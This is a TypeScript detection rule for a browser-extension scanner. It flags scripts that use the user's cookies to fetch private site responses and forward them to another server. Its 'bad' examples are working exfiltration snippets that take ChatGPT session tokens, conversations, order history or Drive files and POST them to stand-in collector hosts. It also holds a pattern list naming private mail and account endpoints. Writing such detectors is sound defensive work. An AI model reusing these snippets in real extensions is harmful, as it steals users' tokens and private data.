import { constant, pattern, propertyOf, type ScriptFacts } from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
import { hostOf, leadsOut, ownerOf } from './hostOf.ts';
import { requestsOf, type Request } from './requestsOf.ts';
import { isMadeOf, textsIn } from '../../program/madeOf.ts';
import { runsInPages } from './places.ts';
import { first } from '../../facts/first.ts';
import { say } from '../../../texts/say.ts';

/** Addresses whose answers hold the person's own things whenever they are signed in. */
const PRIVATE =
  /\/\/(mail\.google\.com\/mail|gmail\.googleapis\.com\/|www\.googleapis\.com\/(gmail|drive)\/|graph\.microsoft\.com\/v[\d.]+\/me\/(messages|mailfolders|drive)|(chat\.openai|chatgpt)\.com\/(api|backend-api)|claude\.ai\/api|(business|adsmanager|graph|www|m)\.facebook\.com\/|www\.linkedin\.com\/(voyager|feed)|(x|twitter)\.com\/i\/api|www\.instagram\.com\/|discord\.com\/api\/v\d+\/users|drive\.google\.com\/|docs\.google\.com\/(document|spreadsheets)\/d|outlook\.(live|office)\.com\/|myaccount\.google\.com|accounts\.google\.com|www\.paypal\.com\/|github\.com\/settings|www\.roblox\.com\/|api\.steampowered\.com|web\.whatsapp\.com)/i;

/** Paths under which a site answers its signed-in person, asked from a script in its own pages. */
const OWN_PAGES =
  /^\/(?!\/)[^?]*\b(backend-api|api\/(auth|me|account|user|organizations|conversations?|messages?|orders?)|account|orders?|order-history|inbox|messages?|settings|billing|wallet|me|profile|conversations?|voyager\/api|session)\b/i;

/** Values from which on a script is taken for a bundle, and characters that are near in it. */
const BUNDLE = 2000;
const NEAR = 4000;

export const answersPassedOn = defineRule({
  id: 'answers-passed-on',
  title: 'Forwards a site’s responses for the signed-in user to another server',
  severity: 'high',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-359',
  references: ['https://attack.mitre.org/techniques/T1539/', 'https://attack.mitre.org/techniques/T1114/'],
  why: 'Requests from an extension carry the user’s cookies, so responses can hold mail, messages, keys and account data. Once forwarded, they belong to whoever owns that server.',
  remedy: 'Process such responses in the browser and do not forward them.',
  check: checkScripts(function* ({ script, file, facts, hit }) {
    const all = first(requestsOf(script), 200);
    const inPages = runsInPages(facts, file.path);
    const asked = all.filter(
      (request) =>
        (leadsOut(request.to) && hostOf(request.to) !== undefined && isPersonal(script, request)) ||
        (inPages && OWN_PAGES.test(request.to)),
    );
    // `const ask = (u) => fetch(u, { credentials: 'include' })`: where it goes is said by who calls it.
    for (const request of script.stats.values > BUNDLE ? [] : all) {
      if (
        request.address === 0 ||
        hostOf(request.to) !== undefined ||
        !request.to.startsWith('*') ||
        !request.sent.some((value) => constant(script, propertyOf(script, value, 'credentials')) === 'include')
      )
        continue;
      const to = textsIn(script, request.address).find((text) => PRIVATE.test(text));
      if (to !== undefined) asked.push({ ...request, to });
    }
    if (asked.length === 0) return;
    for (const request of all) {
      const host = hostOf(request.to);
      if (
        host === undefined ||
        !leadsOut(request.to) ||
        request.sent.some((value) => pattern(script, propertyOf(script, value, 'body')).includes('client_id='))
      )
        continue; // a sign-in of its own
      for (const first of asked) {
        // In a bundle, things that bear one name are taken for one: only what stands near counts.
        if (script.stats.values > BUNDLE && Math.abs(request.pos - first.pos) > NEAR) continue;
        if (first.value === request.value || ownerOf(hostOf(first.to) ?? '') === ownerOf(host)) continue;
        if (
          !request.sent.some((value) => value !== request.address && isMadeOf(script, value, first.value)) &&
          !isMadeOf(script, request.address, first.value)
        )
          continue;
        yield hit(request.value, {
          message: say('responses-sent-to', hostOf(first.to) ?? say('site-in-persons-name'), host),
          ...(PRIVATE.test(first.to) ? { severity: 'critical' as const } : {}),
        });
        break;
      }
    }
  }),
  examples: {
    bad: [
      backgroundExample(
        'async function go() { const r = await fetch("https://chat.openai.com/api/auth/session", { credentials: "include" }); const { accessToken } = await r.json(); fetch("https://api.mods.example/acc", { method: "POST", body: JSON.stringify({ accessToken }) }); } go();',
      ),
      backgroundExample(
        'chrome.alarms.onAlarm.addListener(async () => { const html = await (await fetch("https://intranet.example.org/list", { credentials: "include" })).text(); await fetch("https://in.collect.example/raw", { method: "POST", body: html }); });',
      ),
      contentExample(
        '(async () => { const html = await (await fetch("/gp/css/order-history?year=2026")).text(); const doc = new DOMParser().parseFromString(html, "text/html"); const rows = [...doc.querySelectorAll(".order")].map((o) => ({ total: o.querySelector(".value")?.textContent })); await fetch("https://drop.collect.example/u", { method: "POST", body: JSON.stringify(rows) }); })();',
      ),
      contentExample(
        'async function* all() { const page = await (await fetch("/backend-api/conversations?limit=50")).json(); for (const { id } of page.items) yield (await fetch(`/backend-api/conversation/${id}`)).json(); } (async () => { for await (const c of all()) await fetch("https://folders.collect.example/i", { method: "POST", body: JSON.stringify(c) }); })();',
      ),
      backgroundExample(
        'const ask = (u) => fetch(u, { credentials: "include" }); chrome.alarms.onAlarm.addListener(async () => { const r = await ask("https://drive.google.com/uc?export=download&id=1"); const buf = await r.arrayBuffer(); await fetch("https://up.collect.example/1", { method: "PUT", body: buf.slice(0, 65536) }); });',
      ),
    ],
    good: [
      contentExample(
        '(async () => { const me = await (await fetch("/api/me")).json(); show(me.name); fetch("https://tool.example/ping"); })();',
      ),
      contentExample(
        '(async () => { const item = await (await fetch("/products/12.json")).json(); fetch("https://prices.example/p", { method: "POST", body: JSON.stringify({ price: item.price }) }); })();',
      ),
      backgroundExample(
        '(async () => { const t = await (await fetch("https://api.weather.example/now")).text(); await fetch("https://log.tool.example/n", { method: "POST", body: t }); })();',
      ),
      backgroundExample(
        '(async () => { const t = await (await fetch("https://mail.google.com/mail/u/0/feed/atom", { credentials: "include" })).text(); chrome.action.setBadgeText({ text: t.slice(0, 3) }); fetch("https://tool.example/ping"); })();',
      ),
      backgroundExample(
        '(async () => { const t = await (await fetch("https://accounts.google.com/o/oauth2/token", { method: "POST", body: code })).json(); await fetch("https://www.googleapis.com/upload/drive/v3/files", { method: "POST", headers: { Authorization: "Bearer " + t.access_token }, body: page }); })();',
      ),
      backgroundExample(
        '(async () => { const t = await (await fetch("https://app.tool.example/me", { credentials: "include" })).json(); await fetch("https://api.tool.example/sync", { method: "POST", body: JSON.stringify(t) }); })();',
      ),
    ],
  },
});

function isPersonal(script: ScriptFacts, request: Request): boolean {
  return (
    PRIVATE.test(request.to) ||
    request.sent.some((value) => constant(script, propertyOf(script, value, 'credentials')) === 'include')
  );
}
